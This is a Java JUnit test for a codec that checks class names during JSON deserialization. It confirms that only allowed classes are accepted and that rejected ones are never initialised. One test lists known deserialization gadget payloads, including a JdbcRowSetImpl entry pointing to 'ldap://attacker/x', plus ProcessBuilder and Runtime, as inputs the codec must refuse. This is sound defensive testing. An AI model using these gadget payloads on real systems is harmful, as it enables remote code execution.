package dev.jobstate.core.engine;

import static dev.jobstate.core.engine.ResultFixtures.declared;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.jobstate.core.engine.ResultFixtures.Dog;
import dev.jobstate.core.engine.ResultFixtures.Quiz;
import java.io.IOException;
import java.lang.reflect.Type;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Class names read back from a state file or a database row, which whoever can write those chooses:
 * only the host's own classes and the JDK's value types, only where the declared type allows them,
 * and none initialised before it is accepted.
 */
class ResultCodecClassNamesTest {

    private static final ClassLoader LOADER = ResultCodecClassNamesTest.class.getClassLoader();
    private static final ObjectMapper JSON = new ObjectMapper();

    /** How many times {@link Bomb}'s static initialiser ran. */
    static final AtomicInteger DETONATIONS = new AtomicInteger();

    /** A class of the host's whose static initialiser has an effect. */
    static final class Bomb {
        static {
            DETONATIONS.incrementAndGet();
        }
    }

    private final ResultCodec codec = new ResultCodec();

    private static JsonNode typed(String value) throws IOException {
        return JSON.readTree("{\"" + ResultCodec.TYPED + "\": " + value + "}");
    }

    private IllegalArgumentException rejected(String value, Type declared) throws IOException {
        JsonNode recorded = typed(value);
        return assertThrows(IllegalArgumentException.class, () -> codec.replay(recorded, declared, LOADER));
    }

    @Test
    void aStoredClassThatIsNotASubtypeOfTheDeclaredTypeIsRejectedOnReplay() throws IOException {
        IllegalArgumentException e = rejected("[\"" + Dog.class.getName() + "\", {\"name\": \"rex\"}]", declared("offer"));

        assertTrue(e.getMessage().contains(Dog.class.getName()), e.getMessage());
    }

    @Test
    void aStoredElementClassThatIsNotASubtypeOfTheDeclaredElementTypeIsRejectedOnReplay() throws IOException {
        rejected("[\"java.util.ArrayList\", [[\"" + Quiz.class.getName() + "\", {\"id\": \"q1\", \"points\": 1}]]]",
                declared("animals"));
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
            "[\"java.net.URL\", \"http://example.com\"]",
            "[\"java.lang.ProcessBuilder\", {}]",
            "[\"java.lang.Thread\", {}]",
            "[\"java.util.concurrent.atomic.AtomicInteger\", 3]",
            "[\"java.util.Date\", 0]",
            "[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\": \"ldap://attacker/x\", \"autoCommit\": true}]",
            "[\"javax.management.openmbean.CompositeDataSupport\", {}]",
            "[\"java.util.ArrayList\", [[\"java.net.URL\", \"http://example.com\"]]]",
            "[\"java.util.HashMap\", {\"k\": [\"java.lang.Runtime\", {}]}]",
            "[\"[Ljava.net.URL;\", []]"})
    void aJdkClassOutsideTheStorableOnesIsRejectedOnReplay(String value) throws IOException {
        rejected(value, Object.class);
    }

    @Test
    void aRejectedClassIsNotInitialised() throws IOException {
        rejected("[\"" + Bomb.class.getName() + "\", {}]", declared("offer"));

        assertEquals(0, DETONATIONS.get());
    }

    @Test
    void aClassTheHostsLoaderDoesNotSeeIsRejectedOnReplay() throws IOException {
        JsonNode recorded = typed("[\"" + Quiz.class.getName() + "\", {\"id\": \"q1\", \"points\": 1}]");

        assertEquals(new Quiz("q1", 1), codec.replay(recorded, Object.class, LOADER));
        assertThrows(IllegalArgumentException.class,
                () -> codec.replay(recorded, Object.class, ClassLoader.getPlatformClassLoader()));
    }

    @Test
    void theHostsClassesAndTheJdkValueTypesAreAccepted() throws IOException {
        JsonNode recorded = typed("[\"java.util.ArrayList\", [[\"java.math.BigDecimal\", \"1.50\"],"
                + " [\"java.time.LocalDate\", \"2025-09-20\"], [\"" + Quiz.class.getName() + "\", {\"id\": \"q1\", \"points\": 1}],"
                + " [\"java.util.Optional\", \"x\"]]]");

        assertEquals(List.of(new BigDecimal("1.50"), LocalDate.parse("2025-09-20"), new Quiz("q1", 1),
                Optional.of("x")), codec.replay(recorded, Object.class, LOADER));
    }
}
